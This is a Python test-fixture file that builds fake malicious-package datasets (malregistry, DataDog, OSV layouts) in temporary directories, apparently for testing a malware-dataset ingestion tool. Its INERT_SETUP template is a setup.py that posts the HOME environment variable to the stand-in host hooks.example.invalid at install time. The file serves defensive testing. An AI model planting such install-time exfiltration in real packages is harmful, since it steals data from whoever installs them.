"""Inert fake dataset layouts (malregistry, DataDog, OSV) written into a temp dir for each test."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from tests.archive.builders import encrypted_zip

INERT_SETUP = b"""from setuptools import setup
import os, urllib.request
urllib.request.urlopen("https://hooks.example.invalid/collect", data=os.environ.get("HOME", "").encode())
setup(name=%(name)s, version=%(version)s)
"""


def inert_sdist(name: str, version: str, extra: bytes = b"") -> bytes:
    """A tiny sdist whose setup.py names itself (so normalisation has something to strip)."""
    setup = INERT_SETUP % {b"name": repr(name).encode(), b"version": repr(version).encode()}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for member, data in ((f"{name}-{version}/setup.py", setup + extra),
                             (f"{name}-{version}/PKG-INFO", f"Name: {name}\n".encode())):  # fmt: skip
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def write_malregistry(root: Path, entries: list[tuple[str, str, bytes]], *,
                      corrupt: set[str] = frozenset()) -> Path:  # fmt: skip
    """``entries``: (name, version, sdist bytes); names in ``corrupt`` get a wrong SHA-256."""
    root.mkdir(parents=True, exist_ok=True)
    rows = []
    for i, (name, version, data) in enumerate(entries):
        filename = f"{name}-{version}.tar.gz"
        rel = f"samples/{name}/{version}/{filename}.zip"
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(encrypted_zip([(filename, data)], b"infected"))
        sha = hashlib.sha256(data).hexdigest()
        if name in corrupt:
            sha = "0" * 64
        rows.append([name, version, filename, sha, len(data), f"2024-0{1 + i % 9}-15", rel])
    with (root / "manifest.csv").open("w", newline="") as handle:
        w = csv.writer(handle)
        w.writerow(["name", "version", "filename", "sha256", "size", "first_seen", "sample"])
        w.writerows(rows)
    return root


@pytest.fixture
def malregistry(tmp_path: Path) -> Path:
    return write_malregistry(
        tmp_path / "malregistry",
        [("10Cent10", "999.0.4", inert_sdist("10Cent10", "999.0.4")),
         ("11cent", "999.0.0", inert_sdist("11cent", "999.0.0")),
         ("lonely", "1.0", inert_sdist("lonely", "1.0", b"\nprint('different')\n")),
         ("broken", "0.1", inert_sdist("broken", "0.1"))],
        corrupt={"broken"},
    )  # fmt: skip


@pytest.fixture
def datadog(tmp_path: Path) -> Path:
    """Current layout (malicious_intent/<name>/<version>/<date>-<name>-v<version>.zip holding
    the unpacked folder) plus one early flat ``date:name:version`` sample holding a tar.gz."""
    pypi = tmp_path / "dd" / "samples" / "pypi"
    tree = pypi / "malicious_intent" / "evilpkg" / "1.0" / "2024-05-01-evilpkg-v1.0.zip"
    tree.parent.mkdir(parents=True)
    setup = INERT_SETUP % {b"name": b"'evilpkg'", b"version": b"'1.0'"}
    tree.write_bytes(encrypted_zip([("2024-05-01-evilpkg-v1.0/setup.py", setup),
                                    ("2024-05-01-evilpkg-v1.0/evilpkg/__init__.py", b"")],
                                   b"infected"))  # fmt: skip
    flat = pypi / "2023-03-18:oldpkg:0.9.3.zip"
    flat.write_bytes(encrypted_zip([("oldpkg-0.9.3.tar.gz", inert_sdist("oldpkg", "0.9.3"))],
                                   b"infected"))  # fmt: skip
    (pypi / "manifest.json").write_text(json.dumps({"evilpkg": None, "oldpkg": None,
                                                    "gone": None}))  # fmt: skip
    return tmp_path / "dd"


@pytest.fixture
def osv(tmp_path: Path) -> Path:
    base = tmp_path / "mp" / "osv" / "malicious" / "pypi"
    one = base / "typosquat" / "MAL-2024-1.json"
    one.parent.mkdir(parents=True)
    one.write_text(json.dumps({
        "id": "MAL-2024-1", "published": "2024-02-03T04:05:06Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "typosquat"},
                      "versions": ["1.0", "1.1"]}],
        "database_specific": {"malicious-packages-origins": [{"source": "x", "sha256": "ab" * 32}]},
    }))  # fmt: skip
    every = base / "allbad" / "MAL-2024-2.json"
    every.parent.mkdir(parents=True)
    every.write_text(json.dumps({
        "id": "MAL-2024-2", "published": "2024-03-01T00:00:00Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "allbad"},
                      "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}]},
                     {"package": {"ecosystem": "npm", "name": "not-python"}, "versions": ["1"]}],
    }))  # fmt: skip
    (base / "allbad" / "MAL-2024-3.json").write_text("{not json")
    return tmp_path / "mp"
